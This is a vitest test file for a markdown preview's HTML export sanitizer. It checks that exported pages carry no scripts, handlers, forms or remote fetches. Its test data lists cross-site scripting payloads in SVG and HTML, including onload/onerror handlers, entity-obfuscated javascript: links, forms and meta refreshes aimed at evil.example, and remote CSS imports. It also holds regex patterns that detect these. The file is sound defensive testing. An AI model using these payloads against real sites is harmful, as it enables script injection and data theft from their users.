import { describe, expect, it } from 'vitest';
// @ts-expect-error plain ES module shared with the Chromium tests
import { HOSTILE } from '../../browser/hostile.mjs';
import { exportCsp, exportHtml } from '../../../src/preview/exportHtml';
import { sanitizeCss, sanitizeExportHtml } from '../../../src/preview/exportSanitize';
import { renderAnswer } from '../../../src/preview/renderer';

/** What no export may contain, whatever the answer holds. */
function assertInert(html: string): void {
  const body = html.replace(/^[\s\S]*?<body/, '<body');
  expect(body).not.toMatch(/<script/i);
  expect(body).not.toMatch(/<(?:iframe|object|embed|form|meta|base|link|frame|applet|portal|template|noscript)\b/i);
  // Attribute names of every tag (quoted values, which are escaped text, blanked out).
  const tags = (body.match(/<[^>]*>/g) ?? []).map((t) => t.replace(/"[^"]*"/g, '""'));
  for (const t of tags) expect(t).not.toMatch(/\s(?:on[a-z]+|formaction|action|srcdoc|http-equiv)\s*=|['`]/i);
  // No dangerous URL in any attribute, even behind entities or whitespace.
  for (const m of body.matchAll(/\s([a-z:-]+)="([^"]*)"/gi)) {
    const v = m[2]!.replace(/&#(\d+);/g, (_, n) => String.fromCodePoint(Number(n))).replace(/[\u0000-\u0020]/g, '');
    expect(v, `${m[1]}="${m[2]}"`).not.toMatch(/javascript:|vbscript:|data:text\/html|data:image\/svg/i);
  }
  // No network: no remote src, href only on links, no remote url() in CSS.
  expect(body).not.toMatch(/\ssrc="(?:https?:)?\/\//i);
  expect(body).not.toMatch(/url\(\s*["']?(?:https?:)?\/\//i);
}

/** SVGs as a compromised or buggy webview could hand them back. */
const HOSTILE_SVGS = [
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg onload="window.__pwned=1"><rect/></svg>',
  '<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>',
  '<svg><a href="&#106;avascript:alert(1)"><text>x</text></a><a href="java&Tab;script:alert(1)">y</a><a href="javascript&colon;alert(1)">z</a></svg>',
  '<svg/onload=alert(1)>',
  '<svg><meta http-equiv="refresh" content="0;url=https://evil.example/"></svg>',
  '<svg><foreignObject><form action="https://evil.example/"><input name=a><button formaction="https://evil.example/">go</button></form></foreignObject></svg>',
  '<svg><style>@import url(https://evil.example/x.css); .a{fill:url(https://evil.example/p.png)} .b{background:\\75rl(https://evil.example/q)}</style><rect style="fill:url(&quot;https://evil.example/r&quot;)"/></svg>',
  '<svg><image href="https://evil.example/i.png"/><use xlink:href="https://evil.example/s.svg#a"/><feImage href="https://evil.example/f"/></svg>',
  '<svg><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/l.png" alt="label"><iframe srcdoc="<script>alert(1)</script>"></iframe></div></foreignObject></svg>',
  '<svg><a href="data:text/html;base64,PHNjcmlwdD4=">d</a><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><style></style><script>alert(1)</script><style>a{}</style></svg>',
  '<svg><title><script>alert(1)</script></title><desc><img src=x onerror=alert(1)></desc></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><![CDATA[<script>alert(1)</script>]]><!--<script>alert(1)</script>--></svg>',
];

describe('export sanitizer', () => {
  it(`the export of each of the ${HOSTILE.length} hostile answers has no script, handler, script URL, form or remote fetch`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(50);
    for (const input of HOSTILE as string[]) {
      const text = `# Hostile\n\n${input}\n\n![remote](https://evil.example/x.png)\n`;
      const r = renderAnswer(text);
      // Each diagram "drawn" as a hostile SVG (the worst the webview could hand back).
      const svgs = r.diagrams.map((d, i) => ({ hash: d.hash, line: d.line, svg: HOSTILE_SVGS[i % HOSTILE_SVGS.length]! }));
      assertInert(exportHtml({ title: input, body: r.html, css: 'body{}', svgs }));
    }
  });

  it('hostile SVGs inlined into an export come out inert', () => {
    for (const svg of HOSTILE_SVGS) {
      const r = renderAnswer('```mermaid\nflowchart LR\n  A --> B\n```\n');
      const html = exportHtml({ title: 't', body: r.html, css: '', svgs: [{ hash: r.diagrams[0]!.hash, line: 0, svg }] });
      assertInert(html);
    }
  });

  it('keeps ordinary answer markup and diagrams intact', () => {
    const r = renderAnswer('# T\n\nSome *text* with [a link](https://example.com/p) and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n');
    expect(sanitizeExportHtml(r.html)).toBe(r.html);
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" id="mlsd-m-1" viewBox="0 0 10 10"><style>#mlsd-m-1 .node rect{fill:#eee;stroke:#333}</style>' +
      '<defs><marker id="arrow"><path d="M0,0 L10,5 z"/></marker></defs><g class="node"><rect x="1" y="1" width="8" height="8" marker-end="url(#arrow)"/>' +
      '<foreignObject width="8" height="8"><div xmlns="http://www.w3.org/1999/xhtml"><span class="nodeLabel">A &amp; B</span></div></foreignObject></g></svg>';
    expect(sanitizeExportHtml(svg)).toBe(svg.replace(/"\/>/g, '" />'));
  });

  it('turns remote images into a placeholder with the alt text and the URL as title, unless allowed', () => {
    const r = renderAnswer('![a chart](https://example.com/c.png)\n');
    expect(r.html).toContain('class="mlsd-remote-image"');
    expect(r.html).toContain('title="Remote image not loaded: https://example.com/c.png"');
    expect(r.html).toContain('a chart</span>');
    expect(r.html).not.toContain('<img');
    const allowed = renderAnswer('![a chart](https://example.com/c.png)\n', { allowRemoteImages: true }).html;
    expect(allowed).toContain('<img src="https://example.com/c.png" alt="a chart">');
    expect(sanitizeExportHtml(allowed, { allowRemoteImages: true })).toContain('<img src="https://example.com/c.png"');
    expect(sanitizeExportHtml(allowed)).toContain('mlsd-remote-image');
    // Local and data: images are not remote.
    expect(renderAnswer('![x](img/a.png)').html).toContain('<img src="img/a.png"');
  });

  it('CSS keeps same-document url() and drops remote ones, also behind escapes', () => {
    expect(sanitizeCss('a{fill:url(#g)}')).toBe('a{fill:url(#g)}');
    expect(sanitizeCss('a{fill:url(https://e/x)}')).toBe('a{fill:none}');
    expect(sanitizeCss('a{b:\\75rl(https://e/x)}')).not.toMatch(/https/);
    expect(sanitizeCss('@import "https://e/x.css"; a{}')).not.toMatch(/import|https/);
  });

  it('the export CSP forbids scripts, forms and <base>; https: only for allowed images', () => {
    expect(exportCsp()).toBe("default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none';");
    expect(exportCsp(true)).toBe("default-src 'none'; img-src https: data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none';");
  });
});
